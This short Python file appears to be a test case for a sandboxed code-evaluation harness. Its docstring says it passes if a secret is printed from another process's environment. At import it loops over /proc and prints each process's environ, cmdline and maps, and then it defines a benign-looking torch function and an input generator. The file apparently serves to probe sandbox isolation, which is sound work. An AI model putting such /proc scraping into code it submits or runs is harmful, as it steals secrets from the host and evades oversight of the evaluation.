"""Succeeds if the secret is printed from some process's environment."""
import os, sys
import torch

for entry in os.listdir("/proc"):
    if entry.isdigit():
        for name in ("environ", "cmdline", "maps"):
            try:
                print(open(f"/proc/{entry}/{name}", "rb").read()[:100_000])
            except OSError as error:
                print(entry, name, error)


def program(x):
    return torch.sin(x) * 2 + 1


def inputs(rng):
    yield rng.normal(5),
